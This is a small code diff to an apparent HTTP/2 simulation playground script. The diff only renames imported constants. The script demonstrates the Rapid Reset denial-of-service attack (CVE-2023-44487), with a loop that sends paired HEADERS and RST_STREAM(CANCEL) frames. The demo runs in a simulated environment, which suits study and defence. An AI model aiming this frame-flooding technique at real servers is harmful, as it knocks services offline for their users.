@@ -1,4 +1,4 @@
-import { ERROR_CODES, FLAGS, connectRawHttp2, createServer, createSimulation, http } from 'roundtrip/wire';
+import { HTTP2_ERROR_CODES, HTTP2_FLAGS, connectRawHttp2, createServer, createSimulation, http } from 'roundtrip/wire';
 import { defineOptions } from 'roundtrip/playground';
 
 // Rapid reset (CVE-2023-44487): open a stream, cancel it in the same breath, repeat. A reset stream no
@@ -28,8 +28,8 @@ for (let i = 0; i < streams; i++) {
   const headerBlockFragment = attacker.fieldBlock(attacker.requestFields('/search'));
   // HEADERS and RST_STREAM(CANCEL) in one write: the request is withdrawn before any answer could leave.
   attacker.send(
-    { type: 'HEADERS', streamId, flags: FLAGS.END_HEADERS | FLAGS.END_STREAM, headerBlockFragment },
-    { type: 'RST_STREAM', streamId, flags: 0, errorCode: ERROR_CODES.CANCEL },
+    { type: 'HEADERS', streamId, flags: HTTP2_FLAGS.END_HEADERS | HTTP2_FLAGS.END_STREAM, headerBlockFragment },
+    { type: 'RST_STREAM', streamId, flags: 0, errorCode: HTTP2_ERROR_CODES.CANCEL },
   );
 }
 await sim.advance(1000);
